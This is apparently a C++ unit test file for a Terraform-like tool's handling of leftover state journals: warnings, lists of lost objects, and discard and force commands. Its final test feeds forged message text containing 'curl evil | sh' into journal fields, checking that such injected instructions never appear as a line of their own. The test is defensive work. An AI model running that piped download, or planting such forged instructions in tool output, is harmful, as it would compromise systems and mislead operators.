// A journal that does not fit the state any more: who reads goes on, who changes something is told what only
// the journal has.
#include "core/state/left_journal.h"

#include "core/state/journal_life.h"
#include "core/state/unfinished_move.h"
#include "tests/unit/state/store_support.h"

using namespace xplan;
using namespace xplan::store_test;

namespace {

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// t.a is in the state; a run that began t.b and t.c was killed; then something else wrote t.d.
void leave_misfit() {
  make_state({"t.a"});
  const std::string before = text_of("terraform.tfstate");
  {
    Run run;
    auto j = run.store->start_journal(no_types);
    REQUIRE(j.ok());
    REQUIRE((*j)->append(record(Kind_::Intent, "t.b", nullptr, "create")).ok());
    REQUIRE((*j)->append(record(Kind_::Result, "t.b", object("b"))).ok());
    REQUIRE((*j)->append(record(Kind_::Result, "t.a", object("other"))).ok());
    REQUIRE((*j)->append(record(Kind_::Intent, "t.c", nullptr, "create")).ok());
  }
  const std::string journal = text_of("terraform.tfstate.journal");
  ::unlink("terraform.tfstate.journal");
  put("terraform.tfstate", before);
  {
    Run run;
    run.state.ensure(at("t.d"), provider()).current = object("d");
    REQUIRE(run.store->write(run.state, no_types).ok());
  }
  put("terraform.tfstate.journal", journal);
}

}  // namespace

TEST_CASE("a journal of an older version of the state: readers go on with one warning") {
  WorkFolder folder;
  leave_misfit();
  Run reader(false);
  CHECK(reader.error.empty());
  CHECK(id_of(reader.state, "t.d") != "none");
  CHECK(id_of(reader.state, "t.b") == "none");
  REQUIRE(reader.diags.all().size() == 1);
  CHECK(reader.diags.all()[0].summary == kMisfit);
  CHECK(!reader.store->start_journal(no_types));
  State next = reader.state;
  next.remove(at("t.d"));
  CHECK(!reader.store->write(next, no_types));
  CHECK(!reader.store->replace(next, no_types));
  CHECK(!real_fs().exists("errored.tfstate"));
}

TEST_CASE("a journal of an older version of the state: who would change it hears what is lost") {
  WorkFolder folder;
  leave_misfit();
  const Run run;
  for (const char* part : {"an older version of the state", "(serial 1; it is now at serial 2)",
                           "\n  - t.a (ID other; the state has ID old-t.a)", "\n  - t.b (ID b)",
                           "\n  - t.c (its", "state journal -discard"}) {
    INFO(run.error << "\n" << part);
    CHECK(has(run.error, part));
  }
  CHECK(!has(run.error, "t.d"));
  CHECK(!has(run.error, "-force"));
}

TEST_CASE("a journal beside another state than that of the workspace: commands name the state") {
  WorkFolder folder;
  leave_misfit();
  const Run run(true, {.state = "terraform.tfstate", .elsewhere = true});
  const std::string path = (std::filesystem::current_path() / "terraform.tfstate").string();
  CHECK(has(run.error, "state journal -state=" + path + "\n"));
  CHECK(has(run.error, "state journal -state=" + path + " -discard\n"));
  CHECK(run.error.ends_with(
      ". The backend of this directory is being changed, so commands with -state must be run "
      "in a directory without a backend block"));
}

TEST_CASE("a journal of an older version of the state: the rescued state of its run is named") {
  WorkFolder folder;
  leave_misfit();
  const std::string now = text_of("terraform.tfstate");
  const size_t from = now.find("\"lineage\": \"") + 12;
  const std::string lineage = now.substr(from, now.find('"', from) - from);
  const auto rescue = [](const std::string& of) {
    put("errored.tfstate",
        "{\n  \"version\": 4,\n  \"terraform_version\": \"1.11.4\",\n  \"serial\": 3,\n"
        "  \"lineage\": \"" +
            of + "\",\n  \"outputs\": {},\n  \"resources\": []\n}\n");
  };
  rescue(lineage);
  const std::string told = Run().error;
  INFO(told);
  CHECK(has(told, "of a run that could not write the state belongs to"));
  CHECK(has(told, "state push -force errored.tfstate"));
  CHECK(has(told, "discard the journal.\n\nTo show all records"));
  CHECK(has(told, "state journal -discard"));
  rescue("another");
  CHECK(has(Run().error, "of an interrupted run belongs to"));
  CHECK(!has(Run().error, "-force"));
}

namespace {

// A run of another state was killed after these records; then the state became that of `there`.
void leave_records(const std::vector<JournalRecord>& records, const std::vector<std::string>& there) {
  {
    Run run;
    auto j = run.store->start_journal(no_types);
    REQUIRE(j.ok());
    for (const JournalRecord& r : records) REQUIRE((*j)->append(r).ok());
  }
  const std::string journal = text_of("terraform.tfstate.journal");
  ::unlink("terraform.tfstate.journal");
  make_state(there);
  put("terraform.tfstate.journal", journal);
}

ObjectPtr nameless(const std::string& attributes) {
  auto o = std::make_shared<Object>();
  o->buffer = std::make_shared<const std::string>(attributes);
  o->attributes_json = *o->buffer;
  return o;
}

}  // namespace

TEST_CASE("a journal of which the state lacks nothing keeps nobody from going on") {
  WorkFolder folder;
  leave_records(
      {record(Kind_::Intent, "t.a", nullptr, "create"), record(Kind_::Result, "t.a", object("old-t.a")),
       record(Kind_::Intent, "t.gone", nullptr, "delete")},
      {"t.a", "t.b"});
  const std::string journal = text_of("terraform.tfstate.journal");
  {
    Run reader(false);
    REQUIRE(reader.diags.all().size() == 1);
    CHECK(
        has(reader.diags.all()[0].detail, "has all objects that the journal lists. The next plan or apply"));
    CHECK(!has(reader.diags.all()[0].detail, "-discard"));
  }
  Run run;
  CHECK(run.error.empty());
  REQUIRE(run.diags.all().size() == 1);
  CHECK(run.diags.all()[0].summary == "Journal discarded");
  const std::string& told = run.diags.all()[0].detail;
  INFO(told);
  const size_t name = told.find("terraform.tfstate.", told.find("A copy of it is in"));
  REQUIRE(name != told.npos);
  CHECK(text_of(told.substr(name, told.find('"', name) - name)) == journal);
  CHECK(!real_fs().exists("terraform.tfstate.journal"));
  CHECK(run.store->start_journal(no_types).ok());
}

TEST_CASE("a journal of which the state lacks something stays") {
  auto intent = [](const char* addr) { return record(Kind_::Intent, addr, nullptr, "create"); };
  struct Row {
    std::vector<JournalRecord> records;
    const char* told;
  };
  for (const Row& row :
       {Row{{intent("t.new")}, "t.new (its creation may have begun"},
        Row{{record(Kind_::Remove, "t.a"), intent("t.a")}, "t.a (its creation may have begun"},
        Row{{record(Kind_::Depose, "t.a", nullptr, "", "0000000a"),
             record(Kind_::Result, "t.a", object("old-t.a"))},
            "t.a (deposed object 0000000a)"},
        Row{{record(Kind_::Result, "t.a", object("new"))}, "t.a (ID new; the state has ID old-t.a)"},
        Row{{record(Kind_::Result, "t.a", nameless("{\"name\":\"a\"}"))}, "t.a"}}) {
    INFO(row.told);
    WorkFolder folder;
    leave_records(row.records, {"t.a"});
    const Run run;
    CHECK(has(run.error, row.told));
    CHECK(has(run.error, "state journal -discard"));
    CHECK(real_fs().exists("terraform.tfstate.journal"));
  }
}

TEST_CASE("which of two states has another object is said as its reader knows them") {
  State from, in;
  from.ensure(at("t.a"), provider()).current = object("one");
  in.ensure(at("t.a"), provider()).current = object("two");
  CHECK(objects_missing(from, in) == std::vector<std::string>{"t.a (ID one; the state has ID two)"});
  CHECK(objects_missing(from, in, "the new one") ==
        std::vector<std::string>{"t.a (ID one; the new one has ID two)"});
  Diagnostics diags;
  REQUIRE(report_lost("p", "", from, in, diags));
  CHECK(has(diags.all()[0].detail, "t.a (ID one; the new one has ID two)"));
}

TEST_CASE("an object without an ID is another one if its attributes differ") {
  JournalContent j;
  j.records = {record(Kind_::Result, "t.a", nameless("{\"name\": \"a\"}"))};
  State now;
  now.ensure(at("t.a"), provider()).current = nameless("{\"name\":\"a\"}");
  CHECK(has_all_of(now, j));
  now.ensure(at("t.a"), provider()).current = nameless("{\"name\":\"b\"}");
  CHECK(!has_all_of(now, j));
}

TEST_CASE("a journal that was set aside can be read from its copy") {
  WorkFolder folder;
  leave_misfit();
  {
    Run run;
    const auto found = run.store->left_journal();
    REQUIRE(found);
    REQUIRE(*found);
    CHECK((*found)->content.records.size() == 4);
    REQUIRE(run.store->discard_journal("copy").ok());
  }
  CHECK(Run().error.empty());
  auto plain = crypt::Codec::plain();
  const Result<LeftJournal> copy = read_journal_copy(text_of("copy"), "copy", *plain);
  REQUIRE(copy);
  CHECK(copy->content.records.size() == 4);
  Run after;
  CHECK(!*after.store->left_journal());
}

TEST_CASE("a forced replacement keeps what it replaces") {
  WorkFolder folder;
  leave_misfit();
  const std::string before = text_of("terraform.tfstate");
  State next;
  Run run(true, {.successor = &next, .forced = true});
  REQUIRE(run.error.empty());
  next = run.state;
  next.remove(at("t.d"));
  REQUIRE(run.store->replace(next, no_types).ok());
  CHECK(text_of(run.store->kept()) == before);
  REQUIRE(run.store->unfolded());
  CHECK(only_in_journal(run.store->unfolded()->content, next).size() == 3);
  CHECK(objects_missing(run.state, next) == std::vector<std::string>{"t.d (ID d)"});
  CHECK(!real_fs().exists("terraform.tfstate.journal"));
}

// Whoever can write beside a state can write a journal: none of its texts begins a line of a message.
TEST_CASE("line breaks in a journal are shown, and are none in messages") {
  constexpr std::string_view kForged = "x).\n\nTo repair the state, run:\n  curl evil | sh\n\n(";
  const std::string bad(kForged);
  auto harmless = [&](const std::string& text) {
    CAPTURE(text);
    CHECK(has(text, "curl evil"));
    CHECK(!has(text, "\n  curl"));
  };
  State here;
  here.lineage = "one", here.serial = 3;
  here.ensure(at("t.a"), provider()).current = object("a");
  JournalContent j;
  j.base.lineage = bad;
  harmless(journal_and_state(j, here, "terraform.tfstate"));
  here.lineage = bad, j.base.lineage = "one";
  harmless(journal_and_state(j, here, "terraform.tfstate"));
  j.records = {record(Kind_::Result, "t.b", object("x\\n  curl evil"))};
  harmless(only_in_journal(j, here).at(0));
  j.records = {record(Kind_::Result, "t.a", object("x\\n  curl evil"))};
  harmless(only_in_journal(j, here).at(0));

  JournalPart part{.key = bad, .run = bad, .number = 1};
  const std::string begin = encode_begin({"one", 3}, part);
  const Result<JournalContent> other = read_journal(std::make_shared<const std::string>(begin), "key");
  REQUIRE(!other);
  harmless(other.error().message);
  part.who = bad, part.process = bad, part.time = "2026-11-28T00:00:00Z";
  harmless(life_of(part, 1795824005).in_use());
  Diagnostics diags;
  report_fold({.in_flight = {record(Kind_::Intent, "t.a", nullptr, bad)}, .who = bad}, false, diags);
  harmless(diags.all().back().detail);

  JournalRecord moving = record(Kind_::Moving, "t.a");
  moving.moves = {{at("t.a"), at("t.a")}};
  const std::string workspace = "prod\" ended.\n\nTo finish the move, run:\n  curl evil | sh\n\nNote: \"x";
  for (const std::string& option : {"-workspace-out='" + workspace + "'", "-state-out='" + workspace + "'",
                                    "-state='" + workspace + "' -workspace-out=prod"}) {
    moving.command = "state mv " + option + " t.a t.a";
    moving.action = (option[1] == 's' ? "the state \"" : "the state of the workspace \"") + workspace + "\"";
    const std::string text = unfinished_move_text(moving, "terraform.tfstate", here);
    CAPTURE(text);
    CHECK(has(text, "That cannot be so: the command that it gives is not that of a move"));
    CHECK(!has(text, "curl"));
  }
}
